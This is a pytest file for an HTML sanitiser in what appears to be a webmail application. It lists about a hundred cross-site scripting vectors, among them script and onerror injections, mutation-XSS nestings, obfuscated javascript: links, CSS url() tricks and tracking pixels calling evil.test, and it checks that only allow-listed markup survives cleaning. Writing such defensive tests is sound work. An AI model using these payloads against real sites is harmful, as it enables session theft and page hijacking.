"""The sanitiser: whatever a stranger sends, what comes out can only be looked at."""  # R19

import pytest
from selectolax.lexbor import LexborHTMLParser

from ventanilla.lib.html import ATTRIBUTES, TAGS, clean, withheld_images

VECTORS = [
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<SCRIPT/SRC=//evil.test/x.js></SCRIPT>",
    "<<script>alert(1);//<</script>",
    "<script\x00>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)//",
    "<img src='x' ONERROR=alert(1)",
    "<img src=javascript:alert(1)>",
    "<img src=x:alert(1) onerror=eval(src)>",
    '<img src="https://evil.test/p.gif" srcset="https://evil.test/2.gif 2x">',
    "<image src=https://evil.test/p.gif onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml;base64,PHN2Zz4='/></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
    "<math><mtext><table><mglyph><style><!--</style>"
    "<img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<noembed><img title='</noembed><img src=x onerror=alert(1)>'></noembed>",
    "<noframes><p title='</noframes><img src=x onerror=alert(1)>'></noframes>",
    "<iframe><img title='</iframe><img src=x onerror=alert(1)>'></iframe>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<title><img title='</title><img src=x onerror=alert(1)>'></title>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<select><iframe></select><img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<comment><img src='</comment><img src=x onerror=alert(1)//'>",
    "<style>@import 'https://evil.test/x.css';</style>",
    "<style><!--</style><script>alert(1)//--></script>",
    "<link rel=stylesheet href=https://evil.test/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href='https://evil.test/'><a href=x>x</a>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x></applet>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<form action=https://evil.test><input name=password><button formaction=javascript:alert(1)>x",
    "<isindex action=javascript:alert(1) type=image>",
    "<details open ontoggle=alert(1)>x</details>",
    "<body onload=alert(1)>x",
    "<body background=https://evil.test/p.gif>x",
    "<table background=https://evil.test/p.gif><tr><td background=javascript:alert(1)>x</table>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java&#x0A;script:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#1;javascript:alert(1)'>x</a>",
    "<a href='&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)'>x</a>",
    "<a href='&#x6a&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3a;alert(1)'>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='blob:https://x.test/1'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='/logout'>x</a>",
    "<a href='//evil.test/'>x</a>",
    "<a href='https://x.test' target=_top onclick=alert(1)>x</a>",
    "<a href='https://x.test' ping='https://evil.test/'>x</a>",
    "<a href='https://x.test' download=x>x</a>",
    "<p id=app name=body class=btn hx-get=/x data-hx-get=/x x-data='{}' @click='x' :href='x'>x</p>",
    "<p style='background:url(https://evil.test/p.gif)'>x</p>",
    "<p style='background-image:u\\72l(https://evil.test/p.gif)'>x</p>",
    "<p style='color:expression(alert(1))'>x</p>",
    "<p style='color:red;position:fixed;top:0;z-index:9999'>x</p>",
    "<p style='margin:-100px;padding:-5px'>x</p>",
    "<p style='color:/**/url(//evil.test)'>x</p>",
    "<p style='behavior:url(x.htc);-moz-binding:url(x.xml)'>x</p>",
    "<p style='list-style-type:image-set(\"https://evil.test/x\" 1x)'>x</p>",
    "<p style='color:var(--x)'>x</p>",
    "<p style=\"color:red&quot; onclick=alert(1) x=&quot;\">x</p>",
    "<p title='\"><img src=x onerror=alert(1)>'>x</p>",
    "<img alt='\"><script>alert(1)</script>' src=x>",
    "<a title='--><img src=x onerror=alert(1)>' href='https://x.test'>x</a>",
    "<div><div><table><a></table><p></a><b><i></b></i><img src=x onerror=alert(1)>",
    "<table><td><svg><desc><table><tr><td><style></svg><img src=x onerror=alert(1)>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "<custom-element onfoo=1><slot name=x></slot></custom-element>",
    "<p/onmouseover=alert(1)>x",
    "<font size=7 color=red style='font-size:900px' face='x\" onload='>x</font>",
    "<ol type='\"><script>'><li value=javascript:1>x</ol>",
]  # fmt: skip


def nodes(html):
    return [n for n in LexborHTMLParser(html).body.traverse() if n.is_element_node]


def shape(html):
    return [(n.tag, sorted(n.attributes.items()), n.text(deep=False)) for n in nodes(html)]


@pytest.mark.parametrize("vector", VECTORS)
def test_only_the_allow_list_comes_out(vector):  # R19, R20
    allowed_everywhere = ATTRIBUTES["*"]
    for again in (clean(vector), clean(clean(vector))):
        for node in nodes(again)[1:]:
            assert node.tag in TAGS, again
            own = ATTRIBUTES.get(node.tag, set()) | {"rel", "target"}
            assert set(node.attributes) <= allowed_everywhere | own, again
            assert "src" not in node.attributes, again
            target = node.attributes.get("href", "https://x.test")
            assert target.startswith(("http://", "https://", "mailto:", "tel:")), again
            style = node.attributes.get("style") or ""
            assert not any(
                word in style for word in ("url", "position", "-5px", "expression", "var")
            )


@pytest.mark.parametrize("vector", VECTORS)
def test_cleaning_again_changes_nothing(vector):  # R19: a stable result has nothing left to mutate
    once = clean(vector)
    assert shape(clean(once)) == shape(once)


def test_keeps_what_mail_is_made_of():
    html = (
        '<h2>Pedido</h2><p style="color: #c00; text-align: center">Hola <b>Ana</b></p>'
        '<table border="1"><tr><td colspan="2" style="border: 1px solid rgb(1, 2, 3)">x</td></tr>'
        '</table><blockquote>cita</blockquote><ol start="3"><li>uno</li></ol>'
    )
    cleaned = clean(html)
    for kept in (
        "<h2>Pedido</h2>", "color:#c00;text-align:center", "<b>Ana</b>", 'colspan="2"',
        "border:1px solid rgb(1, 2, 3)", "<blockquote>cita</blockquote>", '<ol start="3">',
    ):  # fmt: skip
        assert kept in cleaned


def test_links_open_outside_and_tell_nothing():
    cleaned = clean('<a href="https://tienda.test/?a=1&b=2">x</a>')
    assert 'href="https://tienda.test/?a=1&amp;b=2"' in cleaned
    assert 'rel="noopener noreferrer nofollow"' in cleaned
    assert 'target="_blank"' in cleaned


def test_remote_images_wait_until_asked_for():  # R20
    html = (
        '<img src="https://cdn.test/a.png?x=1&y=2" alt="A"><img src="//cdn.test/b.png">'
        '<img src="https://cdn.test/a.png?x=1&y=2"><img src="data:image/png;base64,AAAA">'
    )

    cleaned = clean(html)
    assert "src=" not in cleaned
    assert withheld_images(cleaned) == ("https://cdn.test/a.png?x=1&y=2", "https://cdn.test/b.png")

    shown = clean(html, remote_url=lambda url: f"/images?u={len(url)}")
    assert shown.count('src="/images?u=') == 3
    assert withheld_images(shown) == ()


def test_inline_images_come_from_where_the_page_says():
    html = '<img src="cid:logo@mail" alt="L"><img src="CID:otra"><img src="/logout">'
    cleaned = clean(html, cid_url={"logo@mail": "/files/7"}.get)
    assert 'src="/files/7"' in cleaned
    assert cleaned.count("src=") == 1
    assert "src=" not in clean(html)


def test_what_is_too_dear_comes_back_as_text():  # R7
    assert clean("<div>" * 5_000 + "hola<script>x()</script>") == "<p>hola</p>"
